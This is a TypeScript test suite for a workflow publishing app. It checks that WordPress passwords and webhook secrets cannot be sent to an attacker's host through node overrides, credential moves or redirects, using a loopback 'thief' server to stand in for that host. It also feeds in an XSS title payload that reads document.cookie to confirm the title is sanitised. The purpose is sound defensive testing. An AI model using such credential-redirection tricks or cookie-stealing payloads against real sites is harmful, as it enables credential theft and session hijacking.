/**
 * Issue #9 item 1: an editor must not be able to send an admin's WordPress password (or a webhook
 * signature) to a host they control — not by a node override, not by moving the credential, not
 * through a redirect. A second loopback server plays the attacker's host and records everything.
 */
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { FakeWordPress } from '@flowpress/nodes/testing';
import type { WorkflowGraph } from '@flowpress/shared';
import { CredentialsService } from '../src/credentials/credentials.service.js';
import { startTestApp, type Client, type TestApp } from './harness.js';
import { createWorkflow, directGraph, runDirect, shipError } from './publishing-fixture.js';

const PASSWORD = 'abcd EFGH 1234 ijkl MNOP 5678';
const HOOK_SECRET = 'whsec-0123456789-abcdef';

interface Seen {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

/** A loopback server answering every request with `reply`, keeping what it received. */
async function recorder(
  reply: (res: import('node:http').ServerResponse) => void,
): Promise<{ server: Server; url: string; seen: Seen[] }> {
  const seen: Seen[] = [];
  const server = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (c: Buffer) => chunks.push(c));
    req.on('end', () => {
      seen.push({
        method: req.method ?? '',
        url: req.url ?? '',
        headers: req.headers,
        body: Buffer.concat(chunks).toString('utf8'),
      });
      reply(res);
    });
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const { port } = server.address() as AddressInfo;
  return { server, url: `http://127.0.0.1:${port}`, seen };
}

const stop = (server: Server) =>
  new Promise<void>((resolve) => {
    server.closeAllConnections();
    server.close(() => resolve());
  });

/** Every trace of the secrets in what the attacker's host received. */
function leaks(seen: Seen[]): string[] {
  const basic = Buffer.from(`ed:${PASSWORD}`).toString('base64');
  const text = JSON.stringify(seen);
  return [PASSWORD, PASSWORD.replace(/ /g, ''), basic, 'x-flowpress-signature', 'authorization']
    .filter((needle) => text.toLowerCase().includes(needle.toLowerCase()))
    .map((needle) => (needle === basic ? 'basic auth' : needle));
}

// Db-agnostic HTTP behaviour: PGlite only, to spare the shared cores.
describe('credentials bound to their hosts', () => {
  let t: TestApp;
  let admin: Client;
  let editor: Client;
  let thief: Awaited<ReturnType<typeof recorder>>;
  let redirector: Awaited<ReturnType<typeof recorder>>;
  let site: Awaited<ReturnType<typeof recorder>>;
  let wpCredential: string;

  beforeAll(async () => {
    thief = await recorder((res) =>
      res.writeHead(201, { 'content-type': 'application/json' }).end('{"id":1}'),
    );
    // The credential's own site answers every request with a redirect to the attacker's host.
    redirector = await recorder((res) =>
      res.writeHead(307, { location: `${thief.url}/stolen` }).end(),
    );
    site = await recorder((res) => res.writeHead(500).end());
    t = await startTestApp({ database: 'embedded' });
    admin = await t.as('admin');
    editor = await t.as('editor');
    const res = await admin
      .post('/api/credentials')
      .send({
        type: 'wordpress',
        name: 'Company blog (admin)',
        data: { username: 'ed', applicationPassword: PASSWORD, baseUrl: site.url },
      })
      .expect(201);
    wpCredential = (res.body as { id: string }).id;
  }, 60_000);

  afterAll(async () => {
    expect(leaks(thief.seen)).toEqual([]);
    await t?.close();
    await Promise.all([stop(thief.server), stop(redirector.server), stop(site.server)]);
  });

  it('refuses a node that points the credential at another host (400 on the node), create and update', async () => {
    const graph: WorkflowGraph = directGraph({
      target: 'wordpress',
      credentialId: wpCredential,
      baseUrl: `${thief.url}/wp`,
    });
    const created = await editor.post('/api/workflows').send({ name: 'Steal', graph }).expect(400);
    expect(created.body.issues).toEqual([
      {
        path: 'graph.nodes[1].data.baseUrl',
        message: `baseUrl must stay on ${site.url}, the credential's site: a node may not send a credential to another host`,
        nodeId: 'ship',
      },
    ]);
    const fine = await createWorkflow(
      editor,
      'Same site',
      directGraph({ target: 'wordpress', credentialId: wpCredential, baseUrl: `${site.url}/blog` }),
    );
    const updated = await editor.put(`/api/workflows/${fine}`).send({ graph }).expect(400);
    expect(updated.body.issues[0]).toMatchObject({ path: 'graph.nodes[1].data.baseUrl' });
    const versions = await editor.get(`/api/workflows/${fine}/versions`).expect(200);
    expect(versions.body).toHaveLength(1);
  });

  it("lets only an admin or the credential's creator move it to another host", async () => {
    const moved = await editor
      .patch(`/api/credentials/${wpCredential}`)
      .send({ data: { baseUrl: thief.url } })
      .expect(403);
    expect(moved.body.message).toMatch(/^Only an admin or the credential's creator/);
    const cleared = await editor
      .patch(`/api/credentials/${wpCredential}`)
      .send({ data: { baseUrl: null } })
      .expect(403);
    expect(cleared.body.issues).toEqual([
      { path: 'data.baseUrl', message: "only an admin or the credential's creator may change it" },
    ]);
    // Other fields stay the editor's to change; the site did not move.
    await editor.patch(`/api/credentials/${wpCredential}`).send({ name: 'Blog' }).expect(200);
    const stored = await t.app.get(CredentialsService).read(wpCredential);
    expect(stored.data.baseUrl).toBe(site.url);

    const own = await editor
      .post('/api/credentials')
      .send({ type: 'wordpress', name: 'Mine', data: { username: 'me', applicationPassword: 'p' } })
      .expect(201);
    await editor
      .patch(`/api/credentials/${own.body.id as string}`)
      .send({ data: { baseUrl: 'https://mine.example' } })
      .expect(200);
    await admin
      .patch(`/api/credentials/${wpCredential}`)
      .send({ data: { baseUrl: `${site.url}/` } })
      .expect(200);
  });

  it('checks the binding again when the step runs (the credential moved after the save)', async () => {
    const id = await createWorkflow(
      editor,
      'Pinned to the old site',
      directGraph({ target: 'wordpress', credentialId: wpCredential, baseUrl: `${site.url}/wp` }),
    );
    await admin
      .patch(`/api/credentials/${wpCredential}`)
      .send({ data: { baseUrl: 'https://blog.example.com' } })
      .expect(200);
    const run = await runDirect(editor, id, 'moved');
    expect(run.status).toBe('failed');
    expect(shipError(run)).toBe(
      "baseUrl: baseUrl must stay on https://blog.example.com, the credential's site: a node may not send a credential to another host",
    );
    expect(site.seen).toEqual([]);
  });

  it('follows a redirect to another origin without the Authorization header or the signature', async () => {
    await admin
      .patch(`/api/credentials/${wpCredential}`)
      .send({ data: { baseUrl: redirector.url } })
      .expect(200);
    const wpFlow = await createWorkflow(
      editor,
      'Redirected blog',
      directGraph({ target: 'wordpress', credentialId: wpCredential }),
    );
    const hookCred = await admin
      .post('/api/credentials')
      .send({
        type: 'webhook',
        name: 'Signed hook',
        data: { secret: HOOK_SECRET, baseUrl: redirector.url },
      })
      .expect(201);
    const hookFlow = await createWorkflow(
      editor,
      'Redirected hook',
      directGraph({
        target: 'webhook',
        url: `${redirector.url}/in`,
        credentialId: hookCred.body.id as string,
      }),
    );
    await runDirect(editor, wpFlow, 'redirect');
    await runDirect(editor, hookFlow, 'redirect');
    // The credential's site got the credentials; the host it redirected to got requests without.
    expect(redirector.seen.some((r) => r.headers.authorization?.startsWith('Basic '))).toBe(true);
    expect(redirector.seen.some((r) => r.headers['x-flowpress-signature'])).toBe(true);
    expect(thief.seen.length).toBeGreaterThanOrEqual(2);
    expect(leaks(thief.seen)).toEqual([]);
  }, 30_000);

  describe('titles reach WordPress as plain text', () => {
    let wp: FakeWordPress;
    beforeAll(async () => {
      wp = await new FakeWordPress().start();
    });
    afterAll(() => wp?.stop());

    it('an unclosed <img onerror> in the title never reaches the site', async () => {
      const editor = await t.as('editor');
      const cred = await editor
        .post('/api/credentials')
        .send({
          type: 'wordpress',
          name: 'Blog',
          data: {
            username: wp.username,
            applicationPassword: wp.applicationPassword,
            baseUrl: wp.url,
          },
        })
        .expect(201);
      const id = await createWorkflow(
        editor,
        'Titled',
        directGraph({
          target: 'wordpress',
          credentialId: cred.body.id as string,
          title: '{{brief.topic}}',
        }),
      );
      const run = await runDirect(
        editor,
        id,
        'Launch day <img src=x onerror=alert(document.cookie)',
      );
      expect(run.status).toBe('succeeded');
      expect(wp.posts.map((p) => p.title.raw)).toEqual(['Launch day']);
    });
  });

  describe('webhook URLs are masked for people who cannot edit workflows', () => {
    it('viewers and reviewers see the origin only, on every read route; editors see it whole', async () => {
      const editor = await t.as('editor');
      const url = 'https://hooks.example.com/services/T000/B000/XXXXsecretXXXX?token=abc';
      const id = await createWorkflow(
        editor,
        'Slack hook',
        directGraph({ target: 'webhook', url }),
      );
      const urlIn = (body: { graph: WorkflowGraph }) =>
        body.graph.nodes.find((n) => n.id === 'ship')?.data['url'];
      expect(urlIn((await editor.get(`/api/workflows/${id}`).expect(200)).body)).toBe(url);
      for (const role of ['viewer', 'reviewer'] as const) {
        const reader = await t.as(role);
        const one = await reader.get(`/api/workflows/${id}`).expect(200);
        expect(urlIn(one.body)).toBe('https://hooks.example.com/…');
        const list = await reader.get('/api/workflows').expect(200);
        expect(JSON.stringify(list.body)).not.toContain('secret');
        const version = await reader.get(`/api/workflows/${id}/versions/1`).expect(200);
        expect(JSON.stringify(version.body)).not.toContain('secret');
        const file = await reader.get(`/api/workflows/${id}/export`).expect(200);
        expect(urlIn(file.body)).toBe('https://hooks.example.com/…');
      }
    });
  });
});

describe('credentials need https unless private networks are allowed', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await startTestApp({
      database: 'embedded',
      env: { FLOWPRESS_ALLOW_PRIVATE_NETWORK: 'false' },
    });
  }, 60_000);
  afterAll(() => t?.close());

  it('refuses an http: site on a credential (400, nothing stored)', async () => {
    const editor = await t.as('editor');
    const res = await editor
      .post('/api/credentials')
      .send({
        type: 'wordpress',
        name: 'Plain',
        data: { username: 'ed', applicationPassword: PASSWORD, baseUrl: 'http://blog.example.com' },
      })
      .expect(400);
    expect(res.body.issues).toEqual([
      {
        path: 'data.baseUrl',
        message:
          'a target that uses a credential must use https: (FLOWPRESS_ALLOW_PRIVATE_NETWORK=true allows http for tests and intranets)',
      },
    ]);
    expect((await editor.get('/api/credentials').expect(200)).body).toEqual([]);
  });
});
